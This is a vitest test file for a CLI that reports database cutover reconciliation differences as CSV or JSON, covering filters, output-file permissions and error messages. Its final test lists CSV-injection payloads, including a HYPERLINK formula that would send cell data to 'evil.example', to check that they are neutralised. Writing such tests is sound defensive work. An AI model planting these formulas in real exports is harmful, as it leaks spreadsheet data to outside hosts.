/**
 * `cutover reconcile-report` as a person runs it: against a record store filled the way workers
 * fill it (no Temporal needed: the report reads the store alone), CSV a spreadsheet opens with
 * every cell exact, JSON with every round, the filters, `--out`, and each mistake in one sentence.
 */
import { mkdtempSync, readFileSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { reportCsv } from '../present/reconcile-report.js';
import { openRecordStore } from '../prisma/store.js';
import type { ReconcileResult } from '../reconcile/result.js';
import { cliEnv, runCli } from './support/cli.js';
import { migratedStoreAt } from './support/store-template.js';

const dir = mkdtempSync(path.join(tmpdir(), 'cutover-report-'));
const env = cliEnv({ CUTOVER_DATABASE_URL: migratedStoreAt(path.join(dir, 'cutover.db')) });
let runId: string;

function result(overrides: Partial<ReconcileResult>): ReconcileResult {
  return {
    matched: 10,
    missing_in_target: 0,
    extra_in_target: 0,
    mismatched: 0,
    duplicate_keys: { source: 0, target: 0 },
    null_keys: { source: 0, target: 0 },
    columns: [],
    examples: [],
    key_examples: [],
    rows_read: { source: 10, target: 10 },
    sampled: false,
    sample: null,
    target_columns_not_compared: [],
    within_limits: true,
    limit_violations: [],
    seconds: 0.1,
    ...overrides,
  };
}

beforeAll(async () => {
  const store = await openRecordStore({ databaseUrl: env.CUTOVER_DATABASE_URL! });
  try {
    ({ runId } = await store.reserveRun({
      runbookName: 'report',
      mode: 'rehearsal',
      runbookVersion: '1',
      versionHash: 'h',
      runbookSource: 'name: report\n',
      startedBy: 'alice',
    }));
    for (const stepId of ['compare', 'go']) {
      await store.recordStepAttempt({
        runId,
        stepId,
        phaseId: 'p',
        title: stepId,
        owner: 'dba',
        kind: stepId === 'go' ? 'gate' : 'reconcile',
        purpose: 'forward',
        attempt: 1,
        treatment: 'run',
        status: 'failed',
        plannedStartMs: 0,
        plannedDurationMs: 1000,
        startedAt: '2026-11-24T10:00:00.000Z',
        idempotencyKey: `${runId}/${stepId}`,
      });
    }
    const record = (attempt: number, check: string, round: number, r: ReconcileResult) =>
      store.recordReconcileResult({
        runId,
        stepId: 'compare',
        attempt,
        check,
        round,
        startedAt: `2026-11-24T10:0${round}:00.000Z`,
        endedAt: `2026-11-24T10:0${round}:01.000Z`,
        result: r,
      });
    // Attempt 1 is superseded by attempt 2 (the lead retried).
    await record(
      1,
      '',
      1,
      result({
        mismatched: 1,
        examples: [{ kind: 'mismatched', key: { id: 1 }, columns: ['name'], source: { name: 'old' }, target: { name: 'stale' } }],
      }),
    );
    await record(
      2,
      '',
      1,
      result({
        matched: 6,
        mismatched: 2,
        missing_in_target: 1,
        extra_in_target: 1,
        within_limits: false,
        limit_violations: ['2 rows with differing values (limit 0)'],
        examples: [
          // A renamed column (full_name -> name), text with a comma, a quote and a line break.
          {
            kind: 'mismatched',
            key: { region: 'EU', id: 7 },
            columns: ['name', 'note'],
            source: { full_name: 'Smith, "Jo"', note: null },
            target: { name: 'Smith\nJo', note: '' },
          },
          {
            kind: 'mismatched',
            key: { region: 'EU', id: 8 },
            columns: ['balance'],
            source: { balance: 10.5 },
            target: { balance: '=1+1' },
          },
          { kind: 'missing_in_target', key: { region: 'US', id: 9 }, columns: ['name'], source: { full_name: 'Ana' }, target: null },
          { kind: 'extra_in_target', key: { region: 'US', id: 10 }, columns: ['name'], source: null, target: { name: 'Ben' } },
        ],
        key_examples: [{ kind: 'duplicate_key', side: 'source', key: { region: 'EU', id: 3 }, rows: 2 }],
      }),
    );
    await record(2, 'hypercare', 1, result({}));
    await record(2, 'hypercare', 2, result({ mismatched: 120, examples: [], within_limits: false }));
  } finally {
    await store.close();
  }
});

const csvRows = (text: string): string[][] => parse(text);

describe('cutover reconcile-report', () => {
  it('prints CSV of the latest attempt: one line per differing value, every cell exact, formulas kept as text', () => {
    const report = runCli(['reconcile-report', runId, 'compare'], env);
    expect(report.code, report.stderr).toBe(0);
    expect(report.stdout).toContain('\r\n');
    expect(csvRows(report.stdout)).toEqual([
      ['check', 'attempt', 'round', 'kind', 'region', 'id', 'column', 'source_value', 'target_value', 'note'],
      ['(action)', '2', '1', 'mismatched', 'EU', '7', 'full_name -> name', 'Smith, "Jo"', 'Smith\nJo', ''],
      ['(action)', '2', '1', 'mismatched', 'EU', '7', 'note', '', '', ''],
      ['(action)', '2', '1', 'mismatched', 'EU', '8', 'balance', '10.5', "'=1+1", ''],
      ['(action)', '2', '1', 'missing_in_target', 'US', '9', 'full_name', 'Ana', '', 'row only in the source'],
      ['(action)', '2', '1', 'extra_in_target', 'US', '10', 'name', '', 'Ben', 'row only in the target'],
      ['(action)', '2', '1', 'duplicate_key', 'EU', '3', '', '', '', '2 rows with this key in the source'],
      ['hypercare', '2', '2', 'more', '', '', '', '', '', '120 more differing keys not kept; raise `examples` to keep more'],
    ]);
    // NULL is an empty cell, empty text is "" in the file.
    expect(report.stdout).toContain('EU,7,note,,"",');
  });

  it('prints JSON with every round, and picks an attempt, a check and a round when asked', () => {
    const json = runCli(['reconcile-report', runId, 'compare', '--format', 'json'], env);
    expect(json.code, json.stderr).toBe(0);
    const all = JSON.parse(json.stdout) as {
      run: string;
      step: string;
      reconciliations: { attempt: number; check: string; round: number }[];
    };
    expect(all).toMatchObject({ run: runId, step: 'compare' });
    expect(all.reconciliations.map((r) => [r.attempt, r.check, r.round])).toEqual([
      [2, '', 1],
      [2, 'hypercare', 1],
      [2, 'hypercare', 2],
    ]);
    const first = JSON.parse(
      runCli(['reconcile-report', runId, 'compare', '--format', 'json', '--attempt', '1'], env).stdout,
    ) as typeof all;
    expect(first.reconciliations.map((r) => [r.attempt, r.check])).toEqual([[1, '']]);
    const round = csvRows(runCli(['reconcile-report', runId, 'compare', '--check', 'hypercare', '--round', '1'], env).stdout);
    expect(round).toEqual([['check', 'attempt', 'round', 'kind', 'column', 'source_value', 'target_value', 'note']]);
  });

  it('writes --out whole, and says where', () => {
    const file = path.join(dir, 'differences.csv');
    const written = runCli(['reconcile-report', runId, 'compare', '--out', file], env);
    expect(written.code, written.stderr).toBe(0);
    expect(written.stdout).toBe('');
    expect(written.stderr.trim()).toBe(`wrote ${file}`);
    expect(csvRows(readFileSync(file, 'utf8'))).toHaveLength(8);
    // Differing rows are production data: for the person who wrote them, whatever the umask.
    expect(statSync(file).mode & 0o777).toBe(0o600);
    const nowhere = runCli(['reconcile-report', runId, 'compare', '--out', path.join(dir, 'no', 'such', 'folder.csv')], env);
    expect(nowhere.code).toBe(2);
    expect(nowhere.stderr).toMatch(/^cutover: cannot write .*folder\.csv \(ENOENT\); pick a folder you can write to\n$/);
  });

  it('answers each mistake with one sentence and exit 2', () => {
    const cases: [string[], RegExp][] = [
      [['nope-1', 'compare'], /^cutover: there is no run `nope-1`; `cutover list` shows the runs\n$/],
      [[runId, 'comprae'], new RegExp(`^cutover: run ${runId} has no step comprae; its steps are compare, go\\n$`)],
      [[runId, 'go'], /^cutover: step go of run .* has recorded no reconciliation .*; steps that have: compare\n$/],
      [
        [runId, 'compare', '--check', 'nightly'],
        /^cutover: nothing matches: the step recorded attempt\(s\) 1, 2, \(the action\), --check "hypercare", rounds 1 to 2\n$/,
      ],
      [[runId, 'compare', '--format', 'xlsx'], /^cutover: --format wants csv or json, not "xlsx"\n$/],
      [[runId, 'compare', '--round', '0'], /^cutover: --round wants a whole number from 1 up, not "0"\n$/],
    ];
    for (const [args, message] of cases) {
      const answer = runCli(['reconcile-report', ...args], env);
      expect(answer.code, args.join(' ')).toBe(2);
      expect(answer.stderr, args.join(' ')).toMatch(message);
      expect(answer.stdout).toBe('');
    }
  });
});

describe('reportCsv', () => {
  it('tells a key column named like a report column apart in the header', () => {
    const csv = reportCsv([
      {
        runId: 'r-1',
        stepId: 's',
        attempt: 1,
        check: '',
        round: 3,
        startedAt: '2026-11-24T10:00:00.000Z',
        endedAt: '2026-11-24T10:00:01.000Z',
        result: result({
          mismatched: 1,
          examples: [
            { kind: 'mismatched', key: { kind: 'B2B', round: 7 }, columns: ['name'], source: { name: 'a' }, target: { name: 'b' } },
          ],
        }),
      },
    ]);
    expect(csvRows(csv)).toEqual([
      ['check', 'attempt', 'round', 'kind', 'key:kind', 'key:round', 'column', 'source_value', 'target_value', 'note'],
      ['(action)', '1', '3', 'mismatched', 'B2B', '7', 'name', 'a', 'b', ''],
    ]);
  });

  it('keeps every name a spreadsheet would run as a formula as text: check, key header, column (OWASP CSV injection)', () => {
    const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd'];
    const [check, key, column, renamed, target, more] = payloads;
    const csv = reportCsv([
      {
        runId: 'r-1',
        stepId: 's',
        attempt: 1,
        check: check!,
        round: 1,
        startedAt: '2026-11-24T10:00:00.000Z',
        endedAt: '2026-11-24T10:00:01.000Z',
        result: result({
          mismatched: 1,
          missing_in_target: 1,
          examples: [
            {
              kind: 'mismatched',
              key: { [key!]: 1 },
              columns: [column!, target!],
              source: { [column!]: -5, [renamed!]: 'a' },
              target: { [column!]: 7, [target!]: 'b' },
            },
            { kind: 'missing_in_target', key: { [key!]: 2 }, columns: [more!], source: { [more!]: 'x' }, target: null },
          ],
        }),
      },
    ]);
    const rows = csvRows(csv);
    expect(rows[0]).toEqual(['check', 'attempt', 'round', 'kind', `'${key}`, 'column', 'source_value', 'target_value', 'note']);
    expect(rows.slice(1)).toEqual([
      // A number stays a number: only text is made inert.
      [`'${check}`, '1', '1', 'mismatched', '1', `'${column}`, '-5', '7', ''],
      [`'${check}`, '1', '1', 'mismatched', '1', `'${renamed} -> ${target}`, 'a', 'b', ''],
      [`'${check}`, '1', '1', 'missing_in_target', '2', `'${more}`, 'x', '', 'row only in the source'],
    ]);
    // Nothing in the file but a number starts a cell with a formula character.
    const cells = rows.flat().filter((value) => !/^-?\d+$/.test(value));
    for (const value of cells) expect(value, value).not.toMatch(/^[=+\-@\t\r]/);
  });
});
